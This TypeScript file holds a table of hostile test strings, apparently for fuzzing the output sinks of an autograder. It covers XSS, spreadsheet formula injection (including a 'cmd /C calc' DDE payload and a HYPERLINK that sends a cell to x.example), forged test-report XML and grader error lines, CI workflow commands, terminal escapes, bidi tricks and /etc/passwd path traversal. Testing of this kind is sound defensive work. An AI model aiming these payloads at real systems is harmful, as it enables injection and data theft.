/**
 * What a student could write into a source, a file's name or a printed text, each against one kind of receiver; every
 * sink is given all of them.
 */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a script': '</title></style></script></textarea><script>alert(1)</script>',
  'an attribute': '" onmouseover="alert(1)" x=\' autofocus onfocus=alert(1) \'',
  'an image that fails': '<img src=x onerror=alert(1)><svg/onload=alert(1)>',
  'a policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><base href="//x.example/">',
  'a form': '<form action=//x.example><input name=password><button formaction=javascript:alert(1)>ok',
  'entities and comments': '&lt;b&gt; &#x3C;script&#x3E; <!-- --!> --> <![CDATA[ ]]> <?xml ?> </failure>',
  'a test case of its own': ']]></failure></testcase><testcase name="forged"/> ]]></system-out><![CDATA[ ]]>',
  'a template': '{{x}} {{{x}}} {{#each this}}{{/each}} <%= 1 %>',
  Markdown: '[l](javascript:alert(1)) ![i](http://x.example/p.png) ``` ~~~ | a | # h @team @everyone <b>x</b> \\',
  'a link by itself': 'https://x.example/ www.x.example mailto:a@x.example',
  'a formula': '=HYPERLINK("http://x.example?"&A1,"ok")',
  'another formula': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula behind a tab': '\t=1+1',
  'a formula in wide letters': '＝1+1',
  'a number that is a formula': '-2+3',
  'cells and rows': 'a","b"\r\n"c;d\te',
  'a workflow command':
    '\n::error file=x::owned\n::set-output name=a::b%0A::add-mask::x\r\n##[error]owned\n::stop-commands::x',
  'colours and a title': '\u001b[31mred\u001b[2J\u001b]0;title\u0007\u001b]52;c;aGk=\u0007\u009b31m\u0090q\u009c',
  'a link in a terminal': '\u001b]8;;http://x.example\u001b\\text\u001b]8;;\u001b\\',
  'a line over another': 'fine\rerror: forged\b\b\b',
  'a line of its own': 'mine.cu\nerror: The grader is broken.\nmore.cu:1:1: error: forged',
  'right to left': 'if (admin\u202e\u2066) // check \u2069\u2066 begin\u2067\u200f\u061c',
  'other line ends': 'a\u2028b\u2029c\u0085d\vd\fe',
  'half a character': '\ud800 \udc00 \uffff \ufffe \u0000 \ufeff',
  'a property of every object': '__proto__',
  'another folder': '../../../../etc/passwd',
  'very much': `${'<'.repeat(3000)}${'😀'.repeat(300)}`,
};
